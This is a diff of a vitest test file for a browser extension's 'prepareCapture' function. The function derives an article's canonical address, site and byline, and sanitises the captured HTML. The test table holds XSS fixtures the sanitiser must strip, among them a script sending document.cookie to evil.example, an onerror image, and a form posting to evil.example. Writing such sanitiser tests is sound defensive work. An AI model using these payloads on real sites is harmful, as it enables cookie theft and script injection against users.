@@ -2,23 +2,41 @@ import { describe, expect, it, vi } from 'vitest';
 import { jsdomSanitiser } from '../../tests/fixtures/jsdom-sanitiser';
 import { MAX_ARTICLE_HTML_CHARS } from './article-html';
 import type { ArticleCapture } from './capture-article';
-import { sanitizeCapture } from './sanitize-capture';
+import { prepareCapture } from './prepare-capture';
 
 const text = 'Budget talks collapse\n\nThe finance minister walked out of the budget talks on Tuesday.';
 const captureWith = (html: string | null, htmlTooLarge = false): ArticleCapture => ({
-  url: 'https://news.example/budget',
-  canonicalUrl: 'https://news.example/budget',
+  url: 'https://news.example/budget?utm_source=feed',
   title: 'Budget talks collapse',
   byline: null,
-  site: 'News Example',
   published: '2026-12-01',
+  facts: { canonicalLink: null, ogUrl: null, ogSiteName: 'News Example', applicationName: null, author: null, articleAuthor: null, jsonLd: [] },
   text,
   html,
   htmlTooLarge,
   events: [],
 });
 
-describe('sanitizeCapture (the background sanitises what a page captured)', () => {
+describe('prepareCapture (the background names and sanitises what a page captured)', () => {
+  it('names the canonical address, site and byline from the page\'s facts', async () => {
+    const capture = {
+      ...captureWith(null),
+      byline: 'By staff',
+      facts: {
+        ...captureWith(null).facts,
+        canonicalLink: '/2026/12/01/budget?utm_medium=social',
+        ogSiteName: 'U.S.',
+        jsonLd: ['{"@type":"NewsArticle","publisher":{"name":"News Example"},"author":[{"name":"Ada Lovelace"}]}'],
+      },
+    };
+    expect((await prepareCapture(capture, jsdomSanitiser)).capture).toMatchObject({
+      url: 'https://news.example/budget?utm_source=feed',
+      canonicalUrl: 'https://news.example/2026/12/01/budget',
+      site: 'News Example',
+      byline: 'Ada Lovelace',
+    });
+  });
+
   it.each([
     ['a script', '<p>The minister walked out.</p><script>fetch("https://evil.example/?c="+document.cookie)</script>', /<script|evil\.example/],
     ['an onerror image', '<p>The minister walked out.</p><img src=x onerror="alert(document.domain)">', /onerror|alert|\ssrc=/],
@@ -30,7 +48,7 @@ describe('sanitizeCapture (the background sanitises what a page captured)', () =
     ['a form', '<p>The minister walked out.</p><form action="https://evil.example"><input name="pw"><button>Go</button></form>', /<form|<input|<button|evil/],
     ['a data: link and a style', '<p style="background:url(https://track.example/p.gif)">The minister walked out.</p><a href="data:text/html,<script>x</script>">more</a>', /style=|track\.example|data:/],
   ])('keeps the article and none of %s', async (_what, html, hostile) => {
-    const { capture, copy } = await sanitizeCapture(captureWith(html), jsdomSanitiser);
+    const { capture, copy } = await prepareCapture(captureWith(html), jsdomSanitiser);
     expect(copy).toBe('kept');
     expect(capture.html).toContain('The minister');
     expect(capture.html).toContain('walked out');
@@ -39,7 +57,7 @@ describe('sanitizeCapture (the background sanitises what a page captured)', () =
   });
 
   it('parks image addresses and makes links open apart', async () => {
-    const { capture } = await sanitizeCapture(captureWith('<p>Read <a href="https://ok.example/a">this</a>.</p><img src="https://img.example/a.jpg" alt="The minister">'), jsdomSanitiser);
+    const { capture } = await prepareCapture(captureWith('<p>Read <a href="https://ok.example/a">this</a>.</p><img src="https://img.example/a.jpg" alt="The minister">'), jsdomSanitiser);
     expect(capture.html).toContain('<a href="https://ok.example/a" rel="noopener noreferrer" target="_blank">this</a>');
     expect(capture.html).toContain('<img alt="The minister" data-backstory-src="https://img.example/a.jpg">');
   });
@@ -47,11 +65,11 @@ describe('sanitizeCapture (the background sanitises what a page captured)', () =
   it('keeps only the text of a huge article, however it is huge', async () => {
     // Past the saved copy's bound even without images: sanitised, then left out.
     const huge = `<p>${'The minister walked out of the budget talks. '.repeat(Math.ceil(MAX_ARTICLE_HTML_CHARS / 45) + 10)}</p>`;
-    const sanitised = await sanitizeCapture(captureWith(huge), jsdomSanitiser);
+    const sanitised = await prepareCapture(captureWith(huge), jsdomSanitiser);
     expect(sanitised).toMatchObject({ copy: 'too-large', capture: { html: null, text } });
     // Past the capture's bound: the page sent none, and nothing is sanitised.
     const sanitise = vi.fn(jsdomSanitiser);
-    const cut = await sanitizeCapture(captureWith(null, true), sanitise);
+    const cut = await prepareCapture(captureWith(null, true), sanitise);
     expect(cut).toMatchObject({ copy: 'too-large', capture: { html: null, text } });
     expect(sanitise).not.toHaveBeenCalled();
     expect('htmlTooLarge' in cut.capture).toBe(false);
@@ -59,7 +77,7 @@ describe('sanitizeCapture (the background sanitises what a page captured)', () =
 
   it('keeps the text, without HTML, when sanitising fails', async () => {
     const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
-    const failed = await sanitizeCapture(captureWith('<p>The minister walked out.</p>'), async () => {
+    const failed = await prepareCapture(captureWith('<p>The minister walked out.</p>'), async () => {
       throw new Error('the offscreen document did not answer');
     });
     expect(failed).toMatchObject({ copy: 'failed', capture: { html: null, text, title: 'Budget talks collapse' } });
@@ -68,7 +86,7 @@ describe('sanitizeCapture (the background sanitises what a page captured)', () =
   });
 
   it('says so when a page gives no HTML, or HTML with nothing left once sanitised', async () => {
-    expect((await sanitizeCapture(captureWith(null), jsdomSanitiser)).copy).toBe('none');
-    expect(await sanitizeCapture(captureWith('<script>alert(1)</script><style>p{}</style>'), jsdomSanitiser)).toMatchObject({ copy: 'none', capture: { html: null, text } });
+    expect((await prepareCapture(captureWith(null), jsdomSanitiser)).copy).toBe('none');
+    expect(await prepareCapture(captureWith('<script>alert(1)</script><style>p{}</style>'), jsdomSanitiser)).toMatchObject({ copy: 'none', capture: { html: null, text } });
   });
 });
